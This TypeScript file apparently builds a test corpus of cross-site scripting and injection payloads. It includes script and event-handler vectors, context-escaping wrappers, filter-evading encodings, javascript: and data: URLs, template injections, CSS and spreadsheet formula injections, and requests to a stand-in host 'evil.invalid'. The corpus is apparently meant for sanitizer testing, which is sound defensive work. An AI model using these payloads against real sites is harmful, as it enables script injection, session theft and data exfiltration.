/** Texts that became code somewhere: what runs, in what a page may take it for, in how it may be spelled. Each marks `window.hacked`. */

const RUN = 'window.hacked=1';
/** Nobody is there: a request to it is a text that was taken for an address. */
export const FOREIGN_HOST = 'evil.invalid';

/** Elements that run something, show something of others, or change how the rest is read. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//${FOREIGN_HOST}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="//${FOREIGN_HOST}/pixel.gif">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"></svg>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="//${FOREIGN_HOST}/x.swf">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<body onload=${RUN}>`,
  `<style>@import "//${FOREIGN_HOST}/x.css";</style>`,
  `<style>*{background:url(//${FOREIGN_HOST}/x)}</style>`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}/x.css>`,
  `<link rel=import href="//${FOREIGN_HOST}">`,
  `<base href="//${FOREIGN_HOST}/">`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/">`,
  `<form action="//${FOREIGN_HOST}"><button>Pay</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<xss style=animation-name:x onanimationstart=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
];

/** What a text may stand in: it ends that first. */
const WRAPPERS: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['--><!-->', '<!--'],
  ['</title></style></textarea></script>', ''],
  [']]>', '<![CDATA['],
  ['`', '`'],
  ['\r\nContent-Type: text/html\r\n\r\n', ''],
];

/** How the same may be spelled so that a filter does not see it. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace('<', '<\u0000'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.toUpperCase().replaceAll('WINDOW.HACKED', 'window.hacked'),
  (text) => `\u202e${text}\u202c`,
];

/** Addresses that are code. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://https://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `https://example.com/"onmouseover="${RUN}`,
  `https://example.com/'onmouseover='${RUN}`,
  `https://user:password@${FOREIGN_HOST}\\@example.com/`,
  `//${FOREIGN_HOST}/`,
  `blob:https://${FOREIGN_HOST}/x`,
  `view-source:javascript:${RUN}`,
];

/** What templates, markdown, style sheets and spreadsheets read as more than text. */
const OTHERS: readonly string[] = [
  ...ADDRESSES.map((address) => `[click](${address})`),
  ...ADDRESSES.map((address) => `![x](${address})`),
  `{{constructor.constructor("${RUN}")()}}`,
  `{{$on.constructor("${RUN}")()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}{{${RUN}}}`,
  `[[$\{${RUN}}]]`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" style="animation-name:x" onanimationstart="${RUN}`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `</script><script>${RUN}</script>`,
  `}*{background:url(//${FOREIGN_HOST}/x)}`,
  `red;background:url(//${FOREIGN_HOST}/x)`,
  `expression(${RUN})`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("//${FOREIGN_HOST}/","x")`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  `\t=1+1`,
];

/** Incidents of the reliability notes, 3.1, by how the text looked that came in. */
const INCIDENTS: readonly string[] = [
  `<a href="https://example.com" title="<img src=x onerror=${RUN}>">x</a>`,
  `Mozilla/5.0 (<script>${RUN}</script>)`,
  `https://example.com/?q=<svg/onload=${RUN}>`,
  `photo.png"><img src=x onerror=${RUN}>.png`,
  `../../<img src=x onerror=${RUN}>.svg`,
  `Ann <img src=x onerror=${RUN}> <ann@example.com>`,
];

/** All of them, each once. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...VECTORS.flatMap((vector) => WRAPPERS.map(([before, after]) => before + vector + after)),
    ...VECTORS.flatMap((vector) => SPELLINGS.map((spell) => spell(vector))),
    ...ADDRESSES,
    ...OTHERS,
    ...INCIDENTS,
  ]),
];
